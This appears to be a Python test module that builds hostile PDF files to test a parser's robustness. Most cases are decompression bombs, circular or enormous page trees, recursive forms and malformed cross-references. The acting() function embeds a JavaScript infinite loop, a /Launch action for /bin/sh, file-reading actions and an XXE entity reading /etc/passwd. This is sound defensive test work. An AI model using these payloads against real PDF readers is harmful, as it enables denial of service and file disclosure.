"""Hostile PDF files."""

import zlib
from collections.abc import Callable, Mapping

from tests.attacks.attack import ANY, FAILED, HTTP, OVER, READ, SECRET_FILE, Attack
from tests.attacks.bombs import CHUNK, packed
from tests.attacks.packages import FONT, LINES, pdf, pdf_of, shown, stream

_ZLIB = b"\x78\x9c"
FLATE = "/Filter /FlateDecode"
FORM = "/Type /XObject /Subtype /Form /BBox [0 0 842 842]"


def flate(*pieces: tuple[bytes, int]) -> bytes:
    """A stream for /FlateDecode (its sum is left out, which readers forgive)."""
    return _ZLIB + packed(*pieces).data


def many_pages(count: int, told: int | None = None) -> bytes:
    """One page, which the tree of pages names so often."""
    return pdf(
        {
            1: "<< /Type /Catalog /Pages 2 0 R >>",
            2: f"<< /Type /Pages /Count {count if told is None else told} /Kids [{'3 0 R ' * count}] >>",
            3: "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 842 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
            4: stream(shown(LINES)),
            5: FONT,
        }
    )


def tree(kids: str, count: int, more: Mapping[int, bytes | str] | None = None) -> bytes:
    """A tree of pages with those kids: 3 is a page, 2 the tree itself."""
    return pdf(
        {
            1: "<< /Type /Catalog /Pages 2 0 R >>",
            2: f"<< /Type /Pages /Count {count} /Kids [{kids}] /Parent 2 0 R >>",
            3: "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 842 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
            4: stream(shown(LINES)),
            5: FONT,
            **(more or {}),
        }
    )


def powers(depth: int) -> bytes:
    """A tree of pages, each level of which names the next ten times."""
    more: dict[int, bytes | str] = {
        n: f"<< /Type /Pages /Parent {n - 1} 0 R /Count {10 ** (depth - n + 10)} /Kids [{f'{n + 1} 0 R ' * 10}] >>"
        for n in range(10, 10 + depth)
    }
    more[10 + depth] = (
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 842 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>"
    )
    return tree("10 0 R", 10**depth, more)


def forms(depth: int, times: int, last: str = "") -> bytes:
    """Forms that show the next one so many times."""
    more: dict[int, bytes | str] = {}
    for n in range(depth):
        show = f"/X{n + 1} Do " * times if n + 1 < depth else last or "BT /F1 10 Tf (a) Tj ET"
        target = f"/X{n + 1} {11 + n} 0 R" if n + 1 < depth else "/X0 10 0 R"
        more[10 + n] = stream(show.encode(), f"{FORM} /Resources << /Font << /F1 5 0 R >> /XObject << {target} >> >>")
    return pdf_of(shown(LINES) + b" /X0 Do", more, "/XObject << /X0 10 0 R >>")


def glyphs(count: int) -> bytes:
    """A page of so many letters."""
    line = b"(" + b"a" * 100 + b") Tj T*\n"
    return pdf_of(shown(LINES) + b" BT /F1 1 Tf 0.01 TL 20 700 Td " + line * (count // 100) + b"ET")


def mapped(count: int, width: int) -> bytes:
    """A font whose letter stands for so many characters."""
    cmap = (
        "/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <00> <FF> endcodespacerange "
        f"1 beginbfchar <61> <{'0062' * width}> endbfchar endcmap"
    )
    font = FONT.replace(">>", "/ToUnicode 6 0 R >>")
    base: dict[int, bytes | str] = {
        1: "<< /Type /Catalog /Pages 2 0 R >>",
        2: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        5: font,
        6: stream(cmap.encode()),
    }
    page = (
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 842 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>"
    )
    return pdf({**base, 3: page, 4: stream(shown(["a" * 100] * (count // 100)))})


def type3() -> bytes:
    """A font whose letter shows itself."""
    font = (
        "<< /Type /Font /Subtype /Type3 /FontBBox [0 0 10 10] /FontMatrix [0.1 0 0 0.1 0 0] /CharProcs << /a 7 0 R >>"
    )
    font += " /Encoding << /Type /Encoding /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [10] /Resources << /Font << /F2 6 0 R >> >> >>"
    return pdf_of(
        shown(LINES) + b" BT /F2 10 Tf (aaa) Tj ET",
        {6: font, 7: stream(b"10 0 d0 BT /F2 10 Tf (aaaa) Tj ET")},
        "/Font << /F1 5 0 R /F2 6 0 R >>",
    )


def annotations(count: int) -> bytes:
    note = "<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] /Contents (x) >>"
    data = pdf_of(shown(LINES), {6: f"[{'7 0 R ' * count}]", 7: note})
    return data.replace(b"/Contents 4 0 R", b"/Annots 6 0 R /Contents 4 0 R")


def fields(count: int) -> bytes:
    """A form with one field, which the page names so often, and which is its own parent."""
    field = (
        "<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (oui) /Rect [50 50 90 60] /Parent 7 0 R /Kids [7 0 R] >>"
    )
    data = pdf_of(shown(LINES), {6: f"[{'7 0 R ' * count}]", 7: field})
    data = data.replace(b"/Contents 4 0 R", b"/Annots 6 0 R /Contents 4 0 R")
    return data.replace(b"/Type /Catalog", b"/Type /Catalog /AcroForm << /Fields [7 0 R] >>")


def acting() -> bytes:
    """A PDF that would run programs, send forms, and take its text from another file."""
    actions = [
        f"<< /S /URI /URI ({HTTP}/uri) >>",
        "<< /S /JavaScript /JS (app.launchURL\\('http://127.0.0.1:47123/js'\\); while\\(1\\);) >>",
        "<< /S /Launch /F (/bin/sh) >>",
        f"<< /S /GoToR /F ({SECRET_FILE}) /D [0 /Fit] >>",
        f"<< /S /SubmitForm /F ({HTTP}/form) >>",
        f"<< /S /ImportData /F ({SECRET_FILE}) >>",
    ]
    more: dict[int, bytes | str] = {n + 10: each for n, each in enumerate(actions)}
    more[6] = f"<< /Length 0 /F ({SECRET_FILE}) >>\nstream\n\nendstream"
    more[7] = stream(
        b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;</xdp:xdp>"
    )
    data = pdf_of(shown(LINES), more).replace(b"/Contents 4 0 R", b"/AA << /O 11 0 R >> /Contents [4 0 R 6 0 R]")
    actions_all = b" ".join(b"%d 0 R" % n for n in range(10, 16))
    return data.replace(
        b"/Type /Catalog",
        b"/Type /Catalog /AcroForm << /XFA 7 0 R /Fields [] >> /OpenAction 11 0 R /AA << /WC 12 0 R /Next ["
        + actions_all
        + b"] >>",
    )


def circles() -> bytes:
    """References that lead back to themselves, wherever a reader follows one."""
    more: dict[int, bytes | str] = {6: "6 0 R", 7: "8 0 R", 8: "7 0 R", 9: stream(shown(LINES), "/Length 9 0 R")}
    return pdf_of(shown(LINES), more).replace(
        b"/MediaBox [0 0 842 842]", b"/MediaBox 7 0 R /Rotate 6 0 R /Annots 8 0 R"
    )


def object_streams() -> bytes:
    """An object stream that stands in itself, and extends itself."""
    body = b"10 0 11 5 << >> << >>"
    more: dict[int, bytes | str] = {6: stream(body, "/Type /ObjStm /N 100000000 /First 10 /Extends 6 0 R")}
    return pdf_of(shown(LINES), more)


def xref_chain(count: int) -> bytes:
    """Tables of references, each of which names an earlier one, and the first the last."""
    data = bytearray(pdf_of(shown(LINES)))
    start = data.rindex(b"xref\n0 ")
    for _ in range(count):
        at = len(data)
        data += f"xref\n0 0\ntrailer\n<< /Size 6 /Root 1 0 R /Prev {at} >>\nstartxref\n{at}\n%%EOF\n".encode()
    return bytes(data).replace(
        b"trailer\n<< /Size 6 /Root 1 0 R >>", b"trailer\n<< /Size 6 /Root 1 0 R /Prev %d >>" % start, 1
    )


def _pdf(
    name: str,
    make: Callable[[], bytes],
    status: tuple[str, ...],
    codes: tuple[str, ...] = (),
    cheap: bool = True,
    today: str = "",
) -> Attack:
    return Attack(f"pdf-{name}", "pacte.pdf", make, status, codes, cheap, today)


SPACES = b" " * CHUNK
_TEXT = shown(LINES)
PDF_ATTACKS = [
    _pdf("100000-pages", lambda: many_pages(100_000), FAILED, OVER),
    _pdf("1000-pages", lambda: many_pages(1_000), ANY, (), False),
    _pdf("pages-1e9-told", lambda: many_pages(1, 10**9), ANY),
    _pdf("pages-negative", lambda: many_pages(1, -5), ANY),
    _pdf("tree-of-itself", lambda: tree("2 0 R", 1), ANY),
    _pdf("tree-circle", lambda: tree("3 0 R 2 0 R 3 0 R", 3), ANY),
    _pdf("tree-1e12", lambda: powers(12), ANY),
    _pdf(
        "tree-deep",
        lambda: tree("10 0 R", 1, {n: f"<< /Type /Pages /Count 1 /Kids [{n + 1} 0 R] >>" for n in range(10, 5_000)}),
        ANY,
    ),
    _pdf("bomb", lambda: pdf_of(flate((_TEXT, 1), (SPACES, 1024)), packing=FLATE), ANY, (), False),
    _pdf(
        "bomb-twice-packed",
        lambda: pdf_of(
            zlib.compress(flate((_TEXT, 1), (SPACES, 1024)), 9), packing="/Filter [/FlateDecode /FlateDecode]"
        ),
        ANY,
        (),
        False,
    ),
    _pdf(
        "bomb-of-text",
        lambda: pdf_of(flate((_TEXT, 1), (b" BT /F1 1 Tf (" + b"a" * 1000 + b") Tj ET", 100_000)), packing=FLATE),
        ANY,
        (),
        False,
    ),
    _pdf(
        "bomb-of-paths",
        lambda: pdf_of(flate((_TEXT, 1), (b" 0 0 m 9 9 l 0 9 l h f q Q", 2_000_000)), packing=FLATE),
        ANY,
        (),
        False,
    ),
    _pdf(
        "picture-of-1e9-dots",
        lambda: pdf_of(
            _TEXT + b" /I Do",
            {
                6: stream(
                    b"x", "/Subtype /Image /Width 100000 /Height 100000 /BitsPerComponent 8 /ColorSpace /DeviceRGB"
                )
            },
            "/XObject << /I 6 0 R >>",
        ),
        ANY,
    ),
    _pdf("100000-glyphs", lambda: glyphs(100_000), ANY, (), True),
    _pdf("1000000-glyphs", lambda: glyphs(1_000_000), ANY, (), True),
    _pdf("letter-of-10000", lambda: mapped(1_000, 10_000), ANY, (), False),
    _pdf("form-of-itself", lambda: forms(1, 1, "/X0 Do"), ANY),
    _pdf("forms-circle", lambda: forms(5, 2, "/X0 Do"), FAILED, (), False),
    _pdf("forms-2-to-the-25", lambda: forms(25, 2), ANY, (), False),
    _pdf("forms-deep", lambda: forms(3_000, 1), ANY),
    _pdf("font-of-itself", type3, ANY),
    _pdf("100000-notes", lambda: annotations(100_000), ANY, (), False),
    _pdf("20000-fields", lambda: fields(20_000), ANY, (), True),
    _pdf("acting", acting, READ),
    _pdf("circles", circles, ANY),
    _pdf("object-streams", object_streams, ANY),
    _pdf("xref-chain", lambda: xref_chain(5_000), ANY),
    _pdf(
        "xref-lies",
        lambda: pdf_of(_TEXT).replace(b"00000 n", b"00007 n").replace(b"startxref\n", b"startxref\n99999"),
        ANY,
    ),
    _pdf("size-1e9", lambda: pdf_of(_TEXT).replace(b"/Size 6", b"/Size 999999999"), ANY),
    _pdf("length-lies", lambda: pdf_of(_TEXT).replace(b"/Length", b"/Length 99999999 /L"), ANY),
    _pdf("deep-arrays", lambda: pdf_of(_TEXT, {6: "[" * 100_000 + "]" * 100_000}), ANY),
    _pdf("deep-arrays-in-the-page", lambda: pdf_of(_TEXT + b"[" * 100_000), ANY),
    _pdf("deep-states", lambda: pdf_of(b"q " * 500_000 + _TEXT), ANY, (), True),
    _pdf("page-of-1e9", lambda: pdf_of(_TEXT).replace(b"[0 0 842 842]", b"[-1e9 -1e9 1e9 1e9]"), ANY),
    _pdf("page-of-nothing", lambda: pdf_of(_TEXT).replace(b"[0 0 842 842]", b"[0 0 0 0] /UserUnit 1e30"), ANY),
    _pdf("letters-of-1e9", lambda: pdf_of(_TEXT.replace(b"/F1 10 Tf", b"/F1 1e9 Tf")), ANY),
    _pdf("letters-of-nothing", lambda: pdf_of(_TEXT.replace(b"/F1 10 Tf", b"/F1 0 Tf")), ANY),
    _pdf(
        "all-on-one-place",
        lambda: pdf_of(_TEXT + b" BT /F1 10 Tf 9 9 Td " + b"(a) Tj 0 0 Td " * 20_000 + b" ET"),
        ANY,
        (),
        True,
    ),
    _pdf(
        "scattered",
        lambda: pdf_of(
            _TEXT
            + b" BT /F1 2 Tf "
            + b"".join(b"1 0 0 1 %d %d Tm (a) Tj " % (n * 37 % 800, n * 91 % 800) for n in range(20_000))
            + b"ET"
        ),
        READ,
        (),
        False,
        "given up: columns take more than the square of the number of words",
    ),
    _pdf(
        "turned-each-its-way",
        lambda: pdf_of(
            _TEXT
            + b" BT /F1 2 Tf "
            + b"".join(b"0.%d 0.%d -0.5 1 %d 9 Tm (a) Tj " % (n % 97, n % 89, n % 800) for n in range(5_000))
            + b"ET"
        ),
        ANY,
        (),
        True,
    ),
]
